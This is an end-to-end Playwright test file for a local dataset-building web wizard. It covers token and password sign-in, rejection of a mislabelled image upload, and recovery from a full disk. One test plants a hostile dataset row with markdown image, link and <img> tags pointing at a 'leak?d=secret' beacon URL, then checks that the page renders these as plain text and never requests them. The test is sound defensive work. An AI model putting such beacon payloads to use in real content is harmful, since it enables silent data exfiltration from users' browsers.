"""The sign-in flows in a real Chromium: the printed token link, and the password page."""

from __future__ import annotations

import json

import pytest

from assistant.passwords import set_password

pytestmark = [pytest.mark.reliability, pytest.mark.e2e]


def test_the_printed_link_signs_in_and_a_browser_without_it_gets_nothing(launch, browser, page):
    w = launch()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(f"{w.url}/?token={w.token}")
    page.get_by_text("What should your model do?").first.wait_for()
    page.wait_for_load_state("networkidle")
    # the page asks nothing of the internet (no web fonts, no KaTeX from a CDN): all of it, styles included, is local
    assert {url.split("/")[2] for url in requested} == {f"127.0.0.1:{w.port}"}
    assert any(url.endswith("/public/mtw.css") for url in requested)
    cookies = {c["name"]: c for c in page.context.cookies()}
    session = cookies[f"mtw_session_{w.port}"]
    assert session["httpOnly"]
    assert session["sameSite"] == "Strict"
    # the token is not needed again in this browser: the cookie carries the session
    page.goto(w.url)
    page.get_by_text("What should your model do?").first.wait_for()

    stranger = browser.new_context()
    other = stranger.new_page()
    reply = other.goto(w.url)
    assert reply is not None
    assert reply.status == 401
    assert "Open the link `mtw ui` printed" in other.content()
    stranger.close()


def test_the_password_page_signs_in(launch, page, tmp_path):
    home = tmp_path / "home"
    set_password(home, "owner", "a long passphrase")
    w = launch("--password", home=home)
    page.goto(w.url)
    page.locator("#email").fill("owner")
    page.locator("#password").fill("wrong")
    page.locator("button[type=submit]").click()
    page.get_by_text("credentials", exact=False).first.wait_for()  # refused in words, still on the sign-in page
    page.locator("#password").fill("a long passphrase")
    page.locator("button[type=submit]").click()
    page.get_by_text("What should your model do?").first.wait_for()


def test_an_image_renamed_jsonl_gets_a_plain_message_in_the_chat(launch, page, tmp_path):
    from tests.e2e.test_wizard import say, skip_optional_questions, wait_text

    photo = tmp_path / "examples.jsonl"
    photo.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 256)
    w = launch()
    w.sign_in(page)
    page.goto(w.url)
    # a starter that says the kind ("draft … updates"): the kind question is not asked
    page.get_by_role("button", name="Draft weekly status updates for stakeholders").click()
    wait_text(page, "Who reads what the model produces?")  # the next question, once the click's turn is done
    say(page, "leadership")
    wait_text(page, "How should it sound and look?")
    say(page, "short, plain")
    skip_optional_questions(page)
    page.get_by_role("button", name="Looks right").click()
    page.get_by_role("button", name="Upload a file of examples").click()
    wait_text(page, "Attach your examples file")
    # refused as it arrives: the message box never gets the file
    page.locator("#upload-button-input").set_input_files(str(photo))
    wait_text(page, "examples.jsonl is a PNG image, not text")
    assert not list((w.home / "projects").rglob("examples.jsonl"))


BEACON = "http://127.0.0.1:9/leak?d=secret"


def test_a_row_with_an_image_a_link_or_html_is_shown_as_text_and_the_page_never_requests_it(launch, page, tmp_path):
    from tests.e2e.test_wizard import attach, say, skip_optional_questions, wait_text

    hostile = f"![x]({BEACON}) [open]({BEACON}) <img src=\"{BEACON}&html=1\"> www.example.com/leak"
    rows = [{"messages": [{"role": "user", "content": f"Write a status update for project {i}"},
                          {"role": "assistant", "content": (hostile if i == 0 else f"Project {i} is on track.")}]}
            for i in range(12)]
    data = tmp_path / "updates.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in rows))
    w = launch()
    w.sign_in(page)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(w.url)
    page.get_by_role("button", name="Draft weekly status updates for stakeholders").click()  # says the kind
    wait_text(page, "Who reads what the model produces?")  # the next question, once the click's turn is done
    say(page, "leadership")
    wait_text(page, "How should it sound and look?")
    say(page, "short, plain")
    skip_optional_questions(page)
    page.get_by_role("button", name="Looks right").click()
    page.get_by_role("button", name="Upload a file of examples").click()
    wait_text(page, "Attach your examples file")
    attach(page, data)
    wait_text(page, "12 examples")
    say(page, "show my dataset")
    wait_text(page, "Your dataset: 12 examples")
    page.locator("table").last.get_by_role("cell", name="Write a status update for project 3").wait_for()
    say(page, "1")
    wait_text(page, "Example 1:")
    # the row's words are on the page as they are written ...
    page.get_by_text(f"![x]({BEACON})", exact=False).last.wait_for()
    page.get_by_text('<img src="', exact=False).last.wait_for()
    # ... and are nothing but words: no image, no link, no element made from them, no request for them
    assert page.locator("main img[src*='leak'], main a[href*='leak'], main a[href*='example.com']").count() == 0
    assert [url for url in requested if "leak" in url or "example.com" in url] == []
    # the wizard's own formatting still renders
    assert page.locator(".font-bold", has_text="Assistant:").count() > 0


def test_a_full_disk_mid_chat_is_one_sentence_and_the_question_stays_open(launch, page, tmp_path):
    from tests.e2e.test_wizard import say, skip_optional_questions, wait_text
    from tests.fakes.full_disk import FLAG

    full = tmp_path / "disk-is-full"
    w = launch(module="tests.fakes.full_disk", env={FLAG: str(full)})
    w.sign_in(page)
    page.goto(w.url)
    page.get_by_role("button", name="Draft weekly status updates for stakeholders").click()  # says the kind
    wait_text(page, "Who reads what the model produces?")  # the next question, once the click's turn is done
    say(page, "leadership")
    wait_text(page, "How should it sound and look?")
    say(page, "short, plain")
    skip_optional_questions(page)
    full.touch()  # the disk fills up: chainlit can no longer store the Tasks panel
    page.get_by_role("button", name="Looks right").click()
    wait_text(page, "is full, so it could not be saved")
    wait_text(page, "Free some space")
    assert page.get_by_text("Something went wrong").count() == 0
    # the next question is open, with its buttons, and answers once there is room again
    full.unlink()
    page.get_by_role("button", name="Start from the sample PM dataset").click()
    wait_text(page, "45 examples")
    page.locator(".tasklist .task").first.wait_for()

